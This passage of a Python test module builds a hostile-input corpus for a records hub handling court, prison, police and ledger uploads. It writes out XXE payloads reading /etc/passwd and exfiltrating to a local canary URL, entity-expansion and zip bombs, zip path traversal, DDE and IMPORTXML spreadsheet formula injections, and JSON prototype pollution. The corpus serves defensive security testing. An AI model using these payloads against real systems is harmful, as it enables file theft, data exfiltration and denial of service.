"""The hostile input corpus: every case is one input sent through one of the hub's entry points."""

from __future__ import annotations

import functools
import io
import json
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

from tests.adapters.test_ledger import ledger_csv, ledger_xlsx
from tests.adapters.test_ledger import row as ledger_row
from tests.harness import NS, notice

ROOT = Path(__file__).resolve().parents[2]
AGENCY_SAMPLES = ROOT / "schemas" / "agencies"

CANARY = "http://127.0.0.1:{port}"

SENDERS = {"court": "530502FY", "prison": "530502JY", "detention": "530502KS", "police": "530502GA",
           "bureau": "530581SF", "procuratorate": "530502JC", "ledger": "530521SF"}
ADAPTERS = {"530502FY": "court", "530502JY": "prison", "530502KS": "detention", "530502GA": "police",
            "530581SF": "bureau", "530502JC": "procuratorate"}
REGISTER_KEEPERS = {"bureau_register": "530502SF", "court_decisions": "530502FY", "police_custody": "530502GA",
                    "police_wanted": "530502GA", "prison_releases": "530502JY"}
XML_SYSTEMS = ("court", "prison", "detention", "bureau", "procuratorate")
SAMPLE_FILES = {
    "court": "court/samples/1101-sentencing-judgment.xml",
    "prison": "prison/samples/1101-parole-ruling.xml",
    "detention": "detention/samples/JY01-custody-notice.xml",
    "bureau": "bureau/samples/2102-ReportingOutcome.xml",
    "procuratorate": "procuratorate/samples/1201-SentencingDecision-judgment.xml",
    "police": "police/samples/GA31-custody-notice.json",
}


@dataclass(frozen=True)
class Case:
    """One hostile input: where it goes, who sends it, and what the hub may answer."""

    id: str
    kind: str
    entry: str  # messages | inbound/<system> | registers/<kind> | reports/history
    agency: str
    body: Callable[[str], bytes]  # canary URL -> bytes
    params: dict[str, str] = field(default_factory=dict)
    may_accept: bool = False  # a harmless variant the hub may take (then it must be stored verbatim)
    rows: bool = False  # a spreadsheet: a rejected row with its reason is a refusal too
    headers: dict[str, str] = field(default_factory=dict)


def sample(system: str) -> bytes:
    return (AGENCY_SAMPLES / SAMPLE_FILES[system]).read_bytes()


def judgment() -> bytes:
    return notice("SentencingDecision", sender="530502FY", execution_division="530581")[1]


def after_declaration(doc: bytes, insert: bytes) -> bytes:
    """``insert`` placed right after the XML declaration (or at the start)."""
    if doc.startswith(b"<?xml"):
        end = doc.index(b"?>") + 2
        return doc[:end] + b"\n" + insert + doc[end:]
    return insert + doc


def root_name(doc: bytes) -> bytes:
    text = doc.decode("gb18030") if b'encoding="GB18030"' in doc[:80] else doc.decode("utf-8")
    start = text.index("<", text.index("?>") + 2 if text.startswith("<?xml") else 0)
    while text[start + 1] in "!?":
        start = text.index("<", start + 1)
    name = ""
    for ch in text[start + 1:]:
        if ch in " >/\r\n\t":
            break
        name += ch
    return name.encode()


def first_child_text(doc: bytes, marker: bytes) -> bytes:
    """``doc`` with ``marker`` placed as the text right after the root's first start tag closes."""
    name = root_name(doc)
    at = doc.index(b"<" + name)
    end = doc.index(b">", at) + 1
    return doc[:end] + marker + doc[end:]


def laughs(depth: int, width: int, root: bytes) -> bytes:
    ents = [b'<!ENTITY l0 "lol">']
    for i in range(1, depth + 1):
        ents.append(b"<!ENTITY l%d \"" % i + (b"&l%d;" % (i - 1)) * width + b'">')
    return b"<!DOCTYPE " + root + b" [" + b"".join(ents) + b"]>", b"&l%d;" % depth


def quadratic(size: int, uses: int, root: bytes) -> tuple[bytes, bytes]:
    return (b"<!DOCTYPE " + root + b' [<!ENTITY a "' + b"A" * size + b'">]>', b"&a;" * uses)


def dtd_payloads(root: bytes, canary: str) -> dict[str, tuple[bytes, bytes]]:
    """Name -> (prolog to insert after the declaration, text to place inside the root)."""
    c = canary.encode()
    out: dict[str, tuple[bytes, bytes]] = {
        "xxe-file-passwd": (b"<!DOCTYPE " + root + b' [<!ENTITY x SYSTEM "file:///etc/passwd">]>', b"&x;"),
        "xxe-file-hostname": (b"<!DOCTYPE " + root + b' [<!ENTITY x SYSTEM "file:///etc/hostname">]>', b"&x;"),
        "xxe-relative-file": (b"<!DOCTYPE " + root + b' [<!ENTITY x SYSTEM "../../../../etc/passwd">]>', b"&x;"),
        "xxe-http": (b"<!DOCTYPE " + root + b' [<!ENTITY x SYSTEM "' + c + b'/xxe">]>', b"&x;"),
        "xxe-public-http": (b"<!DOCTYPE " + root + b' [<!ENTITY x PUBLIC "-//X//Y" "' + c + b'/pub">]>', b"&x;"),
        "xxe-parameter-entity": (b"<!DOCTYPE " + root + b' [<!ENTITY % p SYSTEM "' + c + b'/param.dtd"> %p;]>',
                                 b""),
        "xxe-parameter-file": (b"<!DOCTYPE " + root + b' [<!ENTITY % p SYSTEM "file:///etc/passwd"> %p;]>', b""),
        "xxe-oob-exfil": (b"<!DOCTYPE " + root + b' [<!ENTITY % f SYSTEM "file:///etc/hostname">'
                          b'<!ENTITY % d "<!ENTITY &#x25; e SYSTEM \'' + c + b'/?x=%f;\'>"> %d; %e;]>', b""),
        "dtd-system-http": (b"<!DOCTYPE " + root + b' SYSTEM "' + c + b'/ext.dtd">', b""),
        "dtd-system-file": (b"<!DOCTYPE " + root + b' SYSTEM "file:///etc/passwd">', b""),
        "dtd-public": (b"<!DOCTYPE " + root + b' PUBLIC "-//W3C//DTD XHTML 1.0//EN" "' + c + b'/x.dtd">', b""),
        "dtd-internal-only": (b"<!DOCTYPE " + root + b" [<!ELEMENT " + root + b" ANY>]>", b""),
        "dtd-empty": (b"<!DOCTYPE " + root + b">", b""),
        "internal-entity": (b"<!DOCTYPE " + root + b' [<!ENTITY n "name">]>', b"&n;"),
        "entity-expands-to-markup": (b"<!DOCTYPE " + root + b' [<!ENTITY m "<injected>1</injected>">]>', b"&m;"),
        "xxe-utf7-netdoc": (b"<!DOCTYPE " + root + b' [<!ENTITY x SYSTEM "netdoc:///etc/passwd">]>', b"&x;"),
        "xxe-php-filter": (b"<!DOCTYPE " + root + b' [<!ENTITY x SYSTEM "php://filter/resource=/etc/passwd">]>',
                           b"&x;"),
        "xxe-jar": (b"<!DOCTYPE " + root + b' [<!ENTITY x SYSTEM "jar:' + c + b'/a.zip!/b">]>', b"&x;"),
        "billion-laughs": laughs(9, 10, root),
        "billion-laughs-wide": laughs(5, 64, root),
        "billion-laughs-deep": laughs(30, 2, root),
        "quadratic-blowup": quadratic(50_000, 5_000, root),
        "quadratic-small-entity": quadratic(1_000, 50_000, root),
    }
    return out


def with_dtd(doc: bytes, prolog: bytes, inner: bytes) -> bytes:
    return first_child_text(after_declaration(doc, prolog), inner) if inner else after_declaration(doc, prolog)


def markup_payloads(root: bytes, canary: str) -> dict[str, tuple[bytes, bytes, bool]]:
    """Name -> (prolog, inner markup, may the hub accept it)."""
    c = canary.encode()
    xi = b'xmlns:xi="http://www.w3.org/2001/XInclude"'
    return {
        "xinclude-file": (b"", b"<xi:include " + xi + b' href="file:///etc/passwd" parse="text"/>', False),
        "xinclude-http": (b"", b"<xi:include " + xi + b' href="' + c + b'/xi.xml"/>', False),
        "xinclude-self": (b"", b"<xi:include " + xi + b' href="" parse="xml"/>', False),
        "xinclude-fallback": (b"", b"<xi:include " + xi + b' href="' + c + b'/no"><xi:fallback>x</xi:fallback>'
                              b"</xi:include>", False),
        "pi-stylesheet-http": (b'<?xml-stylesheet type="text/xsl" href="' + c + b'/x.xsl"?>', b"", True),
        "pi-in-body": (b"", b'<?php system("id"); ?>', True),
        "pi-many": (b"", b"<?x y?>" * 2_000, True),
        "comment-flood": (b"", b"<!--" + b"-" * 0 + b"c" * 30_000 + b"-->", True),
        "cdata-script": (b"", b"<![CDATA[<script>alert(1)</script>]]>", False),
    }



def nesting_payloads() -> dict[str, bytes]:
    return {
        "nesting-1e5": (b"<a>" * 100_000) + (b"</a>" * 100_000),
        "nesting-1e5-unclosed": b"<a>" * 100_000,
        "nesting-1e4": (b"<a>" * 10_000) + (b"</a>" * 10_000),
        "attributes-1e4": b"<a " + b" ".join(b'a%d="x"' % i for i in range(10_000)) + b"/>",
        "long-name": b"<" + b"a" * 1_000_000 + b"/>",
        "namespaces-1e4": b"<a " + b" ".join(b'xmlns:n%d="urn:%d"' % (i, i) for i in range(10_000)) + b"/>",
    }


def encoding_variants(doc: bytes) -> dict[str, tuple[bytes, bool]]:
    """Name -> (bytes, may the hub accept it)."""
    doc = doc.replace(b"encoding='UTF-8'", b'encoding="UTF-8"').replace(b"version='1.0'", b'version="1.0"')
    text = doc.decode("gb18030") if b'encoding="GB18030"' in doc[:80] else doc.decode("utf-8")
    return {
        "invalid-utf8-ff": (doc.replace(b"<", b"\xff<", 3)[::1], False),
        "invalid-utf8-overlong": (first_child_text(doc, b"\xc0\xaf"), False),
        "invalid-utf8-surrogate": (first_child_text(doc, b"\xed\xa0\x80"), False),
        "invalid-utf8-truncated": (first_child_text(doc, b"\xe4\xb8"), False),
        "declared-utf8-is-latin1": (text.encode("utf-8").replace(b"UTF-8", b"ISO-8859-1").replace(
            b"GB18030", b"ISO-8859-1"), True),
        "declared-ebcdic": (doc.replace(b'encoding="UTF-8"', b'encoding="EBCDIC-US"').replace(
            b'encoding="GB18030"', b'encoding="EBCDIC-US"'), False),
        "declared-unknown": (doc.replace(b'encoding="UTF-8"', b'encoding="X-NOPE"').replace(
            b'encoding="GB18030"', b'encoding="X-NOPE"'), False),
        "bom-utf8": (b"\xef\xbb\xbf" + doc, True),
        "bom-utf8-twice": (b"\xef\xbb\xbf\xef\xbb\xbf" + doc, False),
        "bom-utf16le": (text.encode("utf-16"), False),
        "bom-utf16be": (b"\xfe\xff" + text.encode("utf-16-be"), False),
        "bom-utf32le": (text.encode("utf-32"), False),
        "utf16-no-bom": (text.encode("utf-16-le"), False),
        "nul-bytes": (first_child_text(doc, b"\x00\x00"), False),
        "control-chars": (first_child_text(doc, b"\x01\x02\x1b[31m\x7f"), False),
    }


def control_in_names(doc: bytes, root: bytes) -> dict[str, bytes]:
    return {
        "control-in-element-name": doc.replace(b"<" + root, b"<" + root + b"\x01", 1),
        "control-in-attribute": first_child_text(doc, b"<x a\x02b=\"1\"/>"),
        "escape-seq-in-name": first_child_text(doc, b"<x\x1b>1</x\x1b>"),
        "char-ref-control": first_child_text(doc, b"&#1;&#x1b;"),
        "char-ref-nul": first_child_text(doc, b"&#0;"),
        "char-ref-surrogate": first_child_text(doc, b"&#xd800;"),
    }


def police_payloads(doc: bytes) -> dict[str, tuple[bytes, bool]]:
    data = json.loads(doc)
    big = json.dumps(data).encode()
    return {
        "json-nesting-1e5": (b"[" * 100_000 + b"]" * 100_000, False),
        "json-nesting-1e5-object": (b'{"a":' * 100_000 + b"1" + b"}" * 100_000, False),
        "json-nesting-in-record": (big.replace(b'"ryxx": {', b'"ryxx": ' + b"[" * 50_000 + b"]" * 50_000 + b", "
                                               b'"x": {', 1), False),
        "json-huge-number": (big.replace(b'"jls": 1', b'"jls": 1' + b"0" * 100_000, 1), False),
        "json-huge-exponent": (big.replace(b'"jls": 1', b'"jls": 1e999999', 1), False),
        "json-nan": (big.replace(b'"jls": 1', b'"jls": NaN', 1), False),
        "json-infinity": (big.replace(b'"jls": 1', b'"jls": -Infinity', 1), False),
        "json-duplicate-keys": (big.replace(b'"bbh": "1.0"', b'"bbh": "1.0", "bbh": "9.9"', 1), True),
        "json-invalid-utf8": (big.replace(b'"bbh"', b'"b\xffh"', 1), False),
        "json-lone-surrogate": (big.replace(b'"1.0"', b'"\\ud800"', 1), False),
        "json-nul-escape": (big.replace(b'"1.0"', b'"1.0\\u0000"', 1), False),
        "json-bom-utf8": (b"\xef\xbb\xbf" + big, True),
        "json-utf16": (big.decode().encode("utf-16"), False),
        "json-array-root": (b"[" + big + b"]", False),
        "json-string-root": (b'"x"', False),
        "json-truncated": (big[: len(big) // 2], False),
        "json-trailing-garbage": (big + b"<script>", False),
        "json-proto-pollution": (big.replace(b'"header": {', b'"__proto__": {"admin": true}, "constructor": '
                                             b'{"prototype": {}}, "header": {', 1), True),
        "json-records-1e5-empty": (json.dumps({"header": data["header"], "records": [{}] * 100_000}).encode(), False),
        "json-records-1001-empty": (json.dumps({"header": data["header"] | {"jls": 1001},
                                                "records": [{}] * 1001}).encode(), False),
        "json-records-1000-empty": (json.dumps({"header": data["header"] | {"jls": 1000},
                                                "records": [{}] * 1000}).encode(), False),
        "json-long-string": (big.replace(b'"1.0"', b'"' + b"x" * 2_000_000 + b'"', 1), False),
        "json-control-in-key": (big.replace(b'"bbh"', b'"b\\u001bh"', 1), False),
    }


@functools.lru_cache(maxsize=16)
def bomb_xlsx(sheet_xml_size: int, *, part: str = "xl/worksheets/sheet1.xml", declared_small: bool = False,
              declared_part: bool = False) -> bytes:
    """A real workbook whose ``part`` is replaced by a highly compressible one of ``sheet_xml_size`` bytes,
    written a piece at a time so that the inflated part never sits in memory. With ``declared_part`` the part is
    also named in ``[Content_Types].xml`` (as Excel names its shared strings), so that a reader does read it."""
    base = ledger_xlsx([ledger_row("警告", 900, 日期="2026-07-03", 情况说明="予以警告。")])
    src = zipfile.ZipFile(io.BytesIO(base))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=6) as dest:
        for info in src.infolist():
            if info.filename == part:
                continue
            content = src.read(info.filename)
            if declared_part and info.filename == "[Content_Types].xml":
                content = content.replace(b"</Types>", b'<Override PartName="/' + part.encode() + b'" ContentType="'
                                          + CONTENT_TYPES.get(part, b"application/xml") + b'"/></Types>')
            dest.writestr(info, content)
        ns = b'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
        if part.endswith("styles.xml"):
            one = b'<numFmt numFmtId="200" formatCode="yyyy-mm-dd"/>'
            n = sheet_xml_size // len(one)
            head = b'<?xml version="1.0" encoding="UTF-8"?><styleSheet %s><numFmts count="%d">' % (ns, n)
            tail = b"</numFmts></styleSheet>"
        elif part.endswith("sharedStrings.xml"):
            one = b"<si><t>AAAAAAAAAAAAAAAA</t></si>"
            n = sheet_xml_size // len(one)
            head = b'<?xml version="1.0" encoding="UTF-8"?><sst %s count="%d" uniqueCount="%d">' % (ns, n, n)
            tail = b"</sst>"
        else:
            one = b'<row><c t="inlineStr"><is><t>A</t></is></c></row>'
            n = sheet_xml_size // len(one)
            head = b'<?xml version="1.0" encoding="UTF-8"?><worksheet %s><sheetData>' % ns
            tail = b"</sheetData></worksheet>"
        block = one * 20_000
        with dest.open(part, "w", force_zip64=True) as w:
            w.write(head)
            left = n
            while left > 0:
                take = min(left, 20_000)
                w.write(block if take == 20_000 else one * take)
                left -= take
            w.write(tail)
    data = out.getvalue()
    if declared_small:
        data = _lie_about_sizes(data)
    return data


CONTENT_TYPES = {
    "xl/sharedStrings.xml": b"application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"}


def ledger_sheet(rows: bytes, *, header: bytes | None = None) -> bytes:
    """A ledger workbook whose sheet is the ledger's header row followed by ``rows`` (sheet XML row elements)."""
    base = ledger_xlsx([ledger_row("警告", 902, 日期="2026-07-03", 情况说明="予以警告。")])
    sheet = zipfile.ZipFile(io.BytesIO(base)).read("xl/worksheets/sheet1.xml")
    start = sheet.index(b"<row ")
    first_end = sheet.index(b"</row>", start) + len(b"</row>")
    end = sheet.rindex(b"</row>") + len(b"</row>")
    head = header if header is not None else sheet[start:first_end]
    return xlsx_with_part("xl/worksheets/sheet1.xml", sheet[:start].replace(b'<dimension ref="A1:J2"/>', b"")
                          + head + rows + sheet[end:])


def ledger_rows_xml(n: int, cells: bytes = b'<c t="inlineStr"><is><t>x</t></is></c>') -> bytes:
    return (b"<row>" + cells + b"</row>") * n


def many_sheets_xlsx(n: int) -> bytes:
    from openpyxl import Workbook

    wb = Workbook()
    for i in range(n - 1):
        wb.create_sheet(f"S{i}")
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def _lie_about_sizes(data: bytes) -> bytes:
    """The archive's central directory and local headers claiming every member inflates to 1 byte."""
    import struct

    buf = bytearray(data)
    i = 0
    while True:
        i = buf.find(b"PK\x01\x02", i)
        if i < 0:
            break
        struct.pack_into("<I", buf, i + 24, 1)
        i += 4
    i = 0
    while True:
        i = buf.find(b"PK\x03\x04", i)
        if i < 0:
            break
        struct.pack_into("<I", buf, i + 22, 1)
        i += 4
    return bytes(buf)


def xlsx_with_part(part: str, content: bytes) -> bytes:
    base = ledger_xlsx([ledger_row("警告", 901, 日期="2026-07-03", 情况说明="予以警告。")])
    src = zipfile.ZipFile(io.BytesIO(base))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dest:
        for info in src.infolist():
            dest.writestr(info, content if info.filename == part else src.read(info.filename))
        if part not in src.namelist():
            dest.writestr(part, content)
    return out.getvalue()


FORMULAS = ["=1+1", "=cmd|' /C calc'!A0", "+SUM(1,2)", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)",
            '=HYPERLINK("http://127.0.0.1:9/x?"&A1,"click")', "=WEBSERVICE(\"http://127.0.0.1:9/\")",
            "\t=1+1", "\r=1+1", '=IMPORTXML(CONCAT("http://127.0.0.1:9/?v=", A2), "//a")']

def canonical_cases() -> list[Case]:
    cases: list[Case] = []
    root = b"SentencingDecision"
    for name, (prolog, inner) in dtd_payloads(root, CANARY).items():
        cases.append(Case(f"messages-{name}", "dtd/entities", "messages", "530502FY",
                          lambda c, p=prolog, i=inner: with_dtd(judgment(), p.replace(b"{port}", c.encode()),
                                                                i).replace(CANARY.encode(), c.encode())))
    for name, (prolog, inner, ok) in markup_payloads(root, CANARY).items():
        cases.append(Case(f"messages-{name}", "xinclude/pi", "messages", "530502FY",
                          lambda c, p=prolog, i=inner: _fill(
                              first_child_text(after_declaration(judgment(), p), i) if i else
                              after_declaration(judgment(), p), c), may_accept=ok))
    cases.append(Case("messages-xsi-schemaLocation-http", "external-schema", "messages", "530502FY",
                      lambda c: _fill(judgment().replace(
                          b'xmlns="' + NS.encode() + b'"',
                          b'xmlns="' + NS.encode() + b'" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
                          b'xsi:schemaLocation="' + NS.encode() + b' ' + CANARY.encode() + b'/evil.xsd"', 1), c),
                      may_accept=True))
    cases.append(Case("messages-xsi-noNamespaceSchemaLocation-file", "external-schema", "messages", "530502FY",
                      lambda c: judgment().replace(
                          b'xmlns="' + NS.encode() + b'"',
                          b'xmlns="' + NS.encode() + b'" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
                          b'xsi:noNamespaceSchemaLocation="file:///etc/passwd"', 1), may_accept=True))
    for name, body in nesting_payloads().items():
        cases.append(Case(f"messages-{name}", "nesting", "messages", "530502FY", lambda c, b=body: b))
    for name, (_body, ok) in encoding_variants(judgment()).items():
        cases.append(Case(f"messages-{name}", "encoding/bom", "messages", "530502FY",
                          lambda c, n=name: encoding_variants(judgment())[n][0], may_accept=ok))
    for name in control_in_names(judgment(), root):
        cases.append(Case(f"messages-{name}", "control-chars", "messages", "530502FY",
                          lambda c, n=name: control_in_names(judgment(), root)[n]))
    cases.append(Case("messages-empty", "garbage", "messages", "530502FY", lambda c: b""))
    cases.append(Case("messages-json-not-xml", "garbage", "messages", "530502FY", lambda c: b'{"a": 1}'))
    cases.append(Case("messages-html-script", "garbage", "messages", "530502FY",
                      lambda c: b"<html><script>alert(1)</script></html>"))
    cases.append(Case("messages-zip-bytes", "garbage", "messages", "530502FY", lambda c: bomb_xlsx(10_000)))
    return cases


def _fill(body: bytes, canary: str) -> bytes:
    return body.replace(CANARY.encode(), canary.encode())


def native_xml_cases() -> list[Case]:
    cases: list[Case] = []
    for system in XML_SYSTEMS:
        doc = sample(system)
        root = root_name(doc)
        sender = SENDERS[system]
        chosen = ("xxe-file-passwd", "xxe-http", "xxe-parameter-entity", "xxe-oob-exfil", "dtd-system-http",
                  "dtd-system-file", "internal-entity", "billion-laughs", "billion-laughs-deep", "quadratic-blowup")
        payloads = dtd_payloads(root, CANARY)
        for name in chosen:
            prolog, inner = payloads[name]
            cases.append(Case(f"{system}-{name}", "dtd/entities", f"inbound/{system}", sender,
                              lambda c, d=doc, p=prolog, i=inner: _fill(with_dtd(d, p, i), c)))
        for name in ("xinclude-file", "xinclude-http", "pi-stylesheet-http"):
            prolog, inner, ok = markup_payloads(root, CANARY)[name]
            cases.append(Case(f"{system}-{name}", "xinclude/pi", f"inbound/{system}", sender,
                              lambda c, d=doc, p=prolog, i=inner: _fill(
                                  first_child_text(after_declaration(d, p), i) if i else after_declaration(d, p), c),
                              may_accept=True))
        for name in ("nesting-1e5", "nesting-1e5-unclosed", "attributes-1e4"):
            cases.append(Case(f"{system}-{name}", "nesting", f"inbound/{system}", sender,
                              lambda c, n=name: nesting_payloads()[n]))
        cases.append(Case(f"{system}-nesting-1e5-inside-root", "nesting", f"inbound/{system}", sender,
                          lambda c, d=doc: first_child_text(d, b"<a>" * 100_000 + b"</a>" * 100_000)))
        for name, (_, ok) in encoding_variants(doc).items():
            cases.append(Case(f"{system}-{name}", "encoding/bom", f"inbound/{system}", sender,
                              lambda c, d=doc, n=name: encoding_variants(d)[n][0], may_accept=ok))
        for name in ("control-in-element-name", "char-ref-control", "char-ref-nul"):
            cases.append(Case(f"{system}-{name}", "control-chars", f"inbound/{system}", sender,
                              lambda c, d=doc, r=root, n=name: control_in_names(d, r)[n]))
    return cases


def police_cases() -> list[Case]:
    doc = sample("police")
    return [Case(f"police-{name}", "json", "inbound/police", SENDERS["police"],
                 lambda c, n=name: police_payloads(doc)[n][0], may_accept=ok, rows=name == "json-records-1000-empty")
            for name, (_, ok) in police_payloads(doc).items()]


def ledger_cases() -> list[Case]:
    cases: list[Case] = []
    for n, formula in enumerate(FORMULAS):
        for column in ("情况说明", "姓名"):
            def body(c: str, f: str = formula, col: str = column, k: int = n) -> bytes:
                return ledger_csv([ledger_row("警告", 0, 文书编号=f"施司矫〔2026〕F{k}-{abs(hash(c)) % 10**8}号",
                                              日期="2026-07-03", **{"情况说明": "予以警告。", col: f})])
            cases.append(Case(f"ledger-csv-formula-{column}-{n}", "formula-injection", "inbound/ledger", "530521SF",
                              body, params={"filename": "台账.csv"}, may_accept=True, rows=True))
    for n, formula in enumerate(FORMULAS[:5]):
        def xbody(c: str, f: str = formula, k: int = n) -> bytes:
            return ledger_xlsx([ledger_row("警告", 0, 文书编号=f"施司矫〔2026〕X{k}-{abs(hash(c)) % 10**8}号",
                                           日期="2026-07-03", 情况说明=f)])
        cases.append(Case(f"ledger-xlsx-formula-{n}", "formula-injection", "inbound/ledger", "530521SF", xbody,
                          params={"filename": "台账.xlsx"}, may_accept=True, rows=True))
    bombs = {
        "xlsx-bomb-sheet-1g": lambda c: bomb_xlsx(1_200 * 1024 * 1024 // 1),
        "xlsx-bomb-sheet-300m": lambda c: bomb_xlsx(300 * 1024 * 1024),
        "xlsx-bomb-shared-strings-300m": lambda c: bomb_xlsx(300 * 1024 * 1024, part="xl/sharedStrings.xml"),
        "xlsx-bomb-lying-sizes": lambda c: bomb_xlsx(300 * 1024 * 1024, declared_small=True),
        "xlsx-dtd-in-sheet": lambda c: xlsx_with_part("xl/worksheets/sheet1.xml", laughs(9, 10, b"worksheet")[0]
                                                       + b"<worksheet>&l9;</worksheet>"),
        "xlsx-xxe-in-shared-strings": lambda c: xlsx_with_part(
            "xl/sharedStrings.xml", b'<!DOCTYPE sst [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
            b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>&x;</t></si></sst>'),
        "xlsx-xxe-in-workbook": lambda c: xlsx_with_part(
            "xl/workbook.xml", b'<!DOCTYPE w [<!ENTITY x SYSTEM "' + c.encode() + b'/wb">]><w>&x;</w>'),
        "xlsx-external-link": lambda c: xlsx_with_part(
            "xl/externalLinks/_rels/externalLink1.xml.rels",
            b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
            b'externalLinkPath" Target="' + c.encode() + b'/book.xlsx" TargetMode="External"/></Relationships>'),
        "xlsx-truncated": lambda c: bomb_xlsx(10_000)[:700],
        "xlsx-not-a-zip": lambda c: b"PK\x03\x04" + b"\x00" * 200,
        "xlsx-zip-without-workbook": lambda c: _plain_zip({"a.txt": b"hello"}),
        "xlsx-zip-traversal-member": lambda c: _plain_zip({"../../../../tmp/xianjie-evil.txt": b"x",
                                                           "xl/workbook.xml": b"<w/>"}),
        "xlsx-deep-nesting-sheet": lambda c: xlsx_with_part(
            "xl/worksheets/sheet1.xml", b"<worksheet>" + b"<a>" * 100_000 + b"</a>" * 100_000 + b"</worksheet>"),
    }
    for name, fn in bombs.items():
        cases.append(Case(f"ledger-{name}", "zip-bomb/xlsx", "inbound/ledger", "530521SF", fn,
                          params={"filename": "台账.xlsx"}, rows=True,
                          may_accept=name in ("xlsx-bomb-shared-strings-300m", "xlsx-external-link")))
    header_row = b'<row r="1">'
    limits = {
        # the shared-string table named in [Content_Types].xml, so that it is read: 1,310,720 strings in 40 MiB
        "xlsx-bomb-shared-strings-declared-40m": lambda c: bomb_xlsx(40 * 1024 * 1024, part="xl/sharedStrings.xml",
                                                                     declared_part=True),
        "xlsx-bomb-styles-40m": lambda c: bomb_xlsx(40 * 1024 * 1024, part="xl/styles.xml"),
        "xlsx-sheets-101": lambda c: many_sheets_xlsx(101),
        "xlsx-rows-250k": lambda c: ledger_sheet(ledger_rows_xml(250_000)),
        "xlsx-cell-in-column-xfd": lambda c: ledger_sheet(ledger_rows_xml(
            1, b'<c r="A2" t="inlineStr"><is><t>x</t></is></c><c r="XFD2" t="inlineStr"><is><t>x</t></is></c>')),
        "xlsx-row-beyond-excel": lambda c: ledger_sheet(
            b'<row r="1048577"><c t="inlineStr"><is><t>x</t></is></c></row>'),
        "xlsx-rows-out-of-order": lambda c: ledger_sheet(b'<row r="5"><c t="inlineStr"><is><t>x</t></is></c></row>'
                                                         b'<row r="3"><c t="inlineStr"><is><t>x</t></is></c></row>'),
        "xlsx-long-text-node": lambda c: ledger_sheet(ledger_rows_xml(
            1, b'<c t="inlineStr"><is><t>' + b"x>" * 6_000_000 + b"</t></is></c>")),
        "xlsx-deep-nesting-in-row": lambda c: ledger_sheet(b"<row>" + b"<c>" * 300 + b"</c>" * 300 + b"</row>"),
        # every cell in column A: within the columns, but one row holding 160,000 elements
        "xlsx-one-row-40k-cells": lambda c: ledger_sheet(
            b"<row>" + b'<c r="A2" t="inlineStr"><is><t>x</t></is></c>' * 40_000 + b"</row>"),
        "xlsx-no-header-bytes": lambda c: ledger_sheet(b"", header=header_row + b"</row>"),
    }
    for name, fn in limits.items():
        cases.append(Case(f"ledger-{name}", "xlsx-limits", "inbound/ledger", "530521SF", fn,
                          params={"filename": "台账.xlsx"}, rows=True))
    # a declared table under the limits, read whole (103,125 strings)
    cases.append(Case("ledger-xlsx-shared-strings-declared-3m", "xlsx-limits", "inbound/ledger", "530521SF",
                      lambda c: bomb_xlsx(3_300_000, part="xl/sharedStrings.xml", declared_part=True),
                      params={"filename": "台账.xlsx"}, rows=True, may_accept=True))
    csv_bad = {
        "csv-rows-over-limit": lambda c: "事项,文书编号\r\n".encode() + b"x,y\r\n" * 200_001,
        "csv-1500-bad-rows": lambda c: ledger_csv([ledger_row("警告", 10_000 + i, 日期="2026-07-03", 性别="X")
                                                   for i in range(1_500)]),
        "csv-invalid-utf8": lambda c: ledger_csv([ledger_row("警告", 1, 日期="2026-07-03")]) + b"\xff\xfe\xc0\xaf\r\n",
        "csv-utf16": lambda c: ledger_csv([ledger_row("警告", 2, 日期="2026-07-03")]).decode().encode("utf-16"),
        "csv-nul": lambda c: ledger_csv([ledger_row("警告", 3, 日期="2026-07-03")]).replace(b"\r\n", b"\x00\r\n", 1),
        "csv-huge-cell": lambda c: ledger_csv([ledger_row("警告", 4, 日期="2026-07-03", 情况说明="长" * 500_000)]),
        "csv-many-columns": lambda c: b",".join(b"h%d" % i for i in range(100_000)) + b"\r\n",
        "csv-only-newlines": lambda c: b"\r\n" * 200_000,
        "csv-unclosed-quote": lambda c: b'\xe4\xba\x8b\xe9\xa1\xb9,"' + b"x" * 300_000,
        "csv-bom-utf8": lambda c: b"\xef\xbb\xbf" + ledger_csv(
            [ledger_row("警告", 0, 文书编号=f"施司矫〔2026〕B-{abs(hash(c)) % 10**8}号", 日期="2026-07-03")]),
    }
    for name, fn in csv_bad.items():
        cases.append(Case(f"ledger-{name}", "csv", "inbound/ledger", "530521SF", fn,
                          params={"filename": "台账.csv"}, rows=True, may_accept=name == "csv-bom-utf8"))
    return cases


def _plain_zip(members: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        for k, v in members.items():
            z.writestr(k, v)
    return out.getvalue()


def _register_csv(rows: list[dict[str, str]]) -> bytes:
    import csv

    out = io.StringIO()
    headers = list(dict.fromkeys(h for r in rows for h in r))
    w = csv.writer(out)
    w.writerow(headers)
    for r in rows:
        w.writerow([r.get(h, "") for h in headers])
    return out.getvalue().encode()


def _register_row(name: str = "张三", **kw: str) -> dict[str, str]:
    from tests.test_registers import ID1

    out = {"姓名": name, "身份证号码": ID1, "矫正类别": "缓刑", "矫正起始日期": "2025-03-01", "状态": "在册",
           "执行地": "530502"}
    out.update(kw)
    return out


def register_cases() -> list[Case]:
    cases: list[Case] = []
    kind, agency = "bureau_register", REGISTER_KEEPERS["bureau_register"]
    as_of = {"as_of": "2026-06-30"}
    for n, formula in enumerate(FORMULAS):
        cases.append(Case(f"register-csv-formula-name-{n}", "formula-injection", f"registers/{kind}", agency,
                          lambda c, f=formula: _register_csv([_register_row(f)]), params=as_of | {
                              "filename": "名册.csv"}, may_accept=True, rows=True))
    for n, formula in enumerate(FORMULAS[:4]):
        cases.append(Case(f"register-xlsx-formula-status-{n}", "formula-injection", f"registers/{kind}", agency,
